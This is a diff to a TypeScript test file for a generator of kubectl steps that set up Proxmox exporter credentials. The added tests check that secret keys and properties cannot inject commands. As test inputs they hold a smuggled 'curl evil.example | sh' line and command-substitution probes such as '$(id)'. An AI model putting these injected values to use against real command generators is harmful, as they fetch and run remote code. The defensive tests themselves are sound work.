@@ -5,6 +5,7 @@ import { complete } from '../../lib/environment/defaults.ts'
 import type { Credentials } from '../../lib/environment.ts'
 import { lab } from '../generate/overlay/render.ts'
 import { environmentFile, tree } from '../tree.ts'
+import { judged } from '../validate/judged.ts'
 
 const variables =
   '--from-literal=PVE_USER=prometheus@pve --from-literal=PVE_TOKEN_NAME=monitoring --from-literal=PVE_TOKEN_VALUE="$TOKEN"'
@@ -26,7 +27,7 @@ const steps: [string, Credentials, string[]][] = [
     'an ExternalSecret',
     { externalSecret: { store: { name: 'vault', kind: 'ClusterSecretStore' }, key: 'pve/lab' } },
     [
-      '# ClusterSecretStore vault: its entry pve/lab holds user, tokenName, tokenValue',
+      '# ClusterSecretStore vault: the entry pve/lab must hold user, tokenName, tokenValue',
       'kubectl --namespace monitoring wait --for=condition=Ready externalsecret/lab-proxmox-monit-pve-exporter --timeout=2m',
     ],
   ],
@@ -61,6 +62,46 @@ for (const [source, credentials, expected] of steps)
     assert.equal(credentialSteps(complete('lab', 'environments/lab.ts', { ...lab, pveExporter })), expected)
   })
 
+test('no field brings a line of its own among the commands', () => {
+  const evil = 'pve/lab\ncurl evil.example | sh #'
+  const entry = { store: { name: 'vault' }, key: 'pve/lab' }
+  for (const [path, externalSecret] of [
+    ['key', { ...entry, key: evil }],
+    ['key', { ...entry, key: 'a\tb' }],
+    ...['user', 'tokenName', 'tokenValue'].map(name => [
+      `properties.${name}`,
+      { ...entry, properties: { user: 'a', tokenName: 'b', tokenValue: 'c', [name]: evil } },
+    ]),
+  ] as [string, object][]) {
+    const given: unknown = path.split('.').reduce((value, key) => Reflect.get(value, key), externalSecret)
+    const shown = path.endsWith('tokenValue') ? '(hidden)' : given
+    assert.equal(
+      judged({ lab: { ...lab, pveExporter: { tls: 'insecure', credentials: { externalSecret } } } }),
+      [
+        `environments/lab.ts: pveExporter.credentials.externalSecret.${path} ${JSON.stringify(shown)} is not text of one line that is not empty`,
+      ],
+    )
+  }
+})
+
+test('what a comment quotes stays one line, and a command has nothing of it', () => {
+  const key = '$(id) `id` "; id #'
+  const steps = credentialSteps(
+    complete('lab', 'environments/lab.ts', {
+      ...lab,
+      pveExporter: { tls: 'insecure', credentials: { externalSecret: { store: { name: 'vault' }, key } } },
+    }),
+  )
+  assert.equal(
+    steps
+      .join('\n')
+      .split('\n')
+      .map(line => line.includes(key)),
+    [true, false],
+  )
+  assert.match(steps[0] as string, /^# /)
+})
+
 const { run, remove } = tree({ 'environments/lab.ts': environmentFile(lab) })
 test.after(remove)
 
@@ -76,7 +117,7 @@ test('an environment that is not there is an error that names those that are', (
   assert.is(status, 1)
   assert.is(
     stderr,
-    'environments: has no "paris" that can be built; it has lab\n1 problem; nothing was printed\n',
+    'environments: has no valid environment "paris"; it has lab\n1 problem; nothing was printed\n',
   )
 })
 
